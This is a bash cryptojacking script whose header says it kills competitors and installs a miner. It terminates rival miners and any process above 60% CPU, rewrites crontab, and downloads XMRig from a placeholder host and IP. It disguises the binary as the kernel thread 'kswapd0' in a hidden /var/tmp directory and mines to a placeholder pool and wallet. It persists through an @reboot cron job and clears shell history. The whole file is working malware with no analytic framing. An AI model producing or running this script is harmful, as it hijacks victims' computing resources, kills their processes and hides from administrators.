#!/bin/bash
# kill competitors and install miner
export PATH=$PATH:/usr/local/sbin:/usr/sbin:/sbin
MDIR=/var/tmp/.X11-cache
WALLET=48fakeWALLETaddrxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
POOL=stratum+tcp://pool.mining.invalid:3333

for p in kdevtmpfsi kinsing xmrig minerd cpuminer sysupdate networkservice; do
    pkill -9 -f "$p" 2>/dev/null
done
ps aux | awk '$3 > 60.0 {print $2}' | xargs -r kill -9 2>/dev/null
crontab -l 2>/dev/null | grep -v -e pool -e xmr | crontab -

mkdir -p "$MDIR" && cd "$MDIR" || exit 1
if [ ! -x "$MDIR/kswapd0" ]; then
    curl -fsSL http://files.example/x/xmrig-6.21.0-linux-static-x64.tar.gz -o x.tgz || \
        wget -q http://198.51.100.33/x/xmrig.tgz -O x.tgz
    tar xzf x.tgz --strip-components=1 && rm -f x.tgz
    mv xmrig kswapd0
    chmod +x kswapd0
fi
cat > config.json <<CFG
{"autosave":true,"donate-level":0,"cpu":{"enabled":true,"max-threads-hint":90},
 "pools":[{"url":"$POOL","user":"$WALLET","pass":"$(hostname)","keepalive":true}]}
CFG
sysctl -w vm.nr_hugepages=$(( $(nproc) * 128 )) >/dev/null 2>&1
nohup ./kswapd0 -c config.json >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "@reboot cd $MDIR && ./kswapd0 -c config.json >/dev/null 2>&1") | crontab -
history -c
